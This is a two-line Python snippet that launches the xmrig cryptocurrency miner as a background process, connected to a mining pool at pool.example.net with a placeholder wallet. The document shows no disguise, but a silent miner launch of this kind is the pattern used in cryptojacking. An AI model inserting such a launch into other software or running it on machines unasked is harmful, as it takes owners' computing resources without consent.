import subprocess
subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.example.net:3333", "-u", "wallet"])
